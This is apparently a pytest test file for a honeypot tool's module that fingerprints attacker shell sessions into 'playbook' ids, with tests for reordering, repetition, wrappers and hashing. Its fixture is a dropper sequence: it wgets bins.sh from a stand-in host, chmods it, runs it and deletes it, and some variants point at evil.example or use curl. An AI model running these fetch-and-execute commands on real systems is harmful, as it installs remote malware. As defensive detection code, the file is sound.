"""Playbooks: one id for the same steps, whatever their names, hosts and numbers are; another for other steps."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.shell.playbook import LONGEST_CYCLE, folded, groups, playbook_id, simples

SCRIPT = [
    "cd /tmp || cd /var/run",
    "wget http://203.0.113.9/bins.sh -O bins.sh; chmod 777 bins.sh",
    "sh bins.sh",
    "rm -rf bins.sh",
    "ping -c3 203.0.113.9",
]


def playbook(lines: list[str]) -> str | None:
    return playbook_id(one.play for line in lines for one in simples(line))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("bins.sh", "k7"), ("203.0.113.9", "evil.example"), ("/tmp", "/dev/shm"), ("-c3", "-c12"), ("777", "0755"),
        ("http://203.0.113.9/bins.sh", "https://a.example/94f2e4d894f2e4d8"),
    ],
)  # fmt: skip
def test_names_hosts_hashes_and_counts_do_not_change_a_playbook(old: str, new: str) -> None:
    assert playbook([line.replace(old, new) for line in SCRIPT]) == playbook(SCRIPT)


def test_a_program_of_its_own_is_the_same_whatever_its_name() -> None:
    assert playbook(["./a.sh", "uname"]) == playbook(["/var/tmp/.x7", "uname"])
    assert playbook(["./a.sh", "uname"]) != playbook(["uname", "uname"])


@pytest.mark.parametrize(
    "other",
    [
        [SCRIPT[0], SCRIPT[2], SCRIPT[1], *SCRIPT[3:]],
        SCRIPT[:-1],
        [*SCRIPT, "uname -a"],
        [line.replace("wget", "curl") for line in SCRIPT],
        [line.replace("-rf", "-f") for line in SCRIPT],
    ],
)
def test_other_steps_or_another_order_are_another_playbook(other: list[str]) -> None:
    assert playbook(other) != playbook(SCRIPT)


def test_repeating_says_nothing_new_and_neither_does_writing_it_on_one_line() -> None:
    assert playbook(SCRIPT[1:4] * 5) == playbook(SCRIPT[1:4])
    assert playbook(["; ".join(SCRIPT[1:4])]) == playbook(SCRIPT[1:4])
    assert playbook(["uname"] * 7) == playbook(["uname"])
    nested = ["id", "id", "w"] * 3 + ["ps"]
    assert playbook(nested * 2) == playbook(["id", "w", "ps"])


def test_wrappers_and_the_text_of_a_shell_are_looked_through() -> None:
    assert playbook(["sudo -n wget http://h/a"]) == playbook(["wget http://h/a"])
    assert playbook(["busybox wget http://h/a"]) == playbook(["wget http://h/a"])
    assert playbook(["sh -c 'uname -a; id'"]) == playbook(["uname -a", "id"])


def test_a_session_without_steps_has_no_playbook() -> None:
    assert playbook([]) is None
    assert playbook(["", "A=1", "   "]) is None


def test_the_id_stays_what_it_is() -> None:
    """Stored with sessions: another definition needs another version in the id, and a back-fill."""
    assert playbook(SCRIPT) == "pb-d79046e3982f"


def test_groups_are_found_up_to_the_longest_cycle() -> None:
    fits = [str(n) for n in range(LONGEST_CYCLE)]
    assert list(groups(fits * 3)) == [(0, LONGEST_CYCLE, 3)]
    longer = [*fits, "more"]
    assert len(folded(longer * 2)) == 2 * len(longer)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from("abc"), max_size=60))
def test_folding_loses_no_kind_of_step_and_tells_of_each_place(items: list[str]) -> None:
    assert set(folded(items)) == set(items)
    assert sum(length * times for _, length, times in groups(items)) == len(items)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_any_line_has_a_playbook_or_none(line: str) -> None:
    found = playbook([line])
    assert found is None or found.startswith("pb-")
    assert found == playbook([line, line])
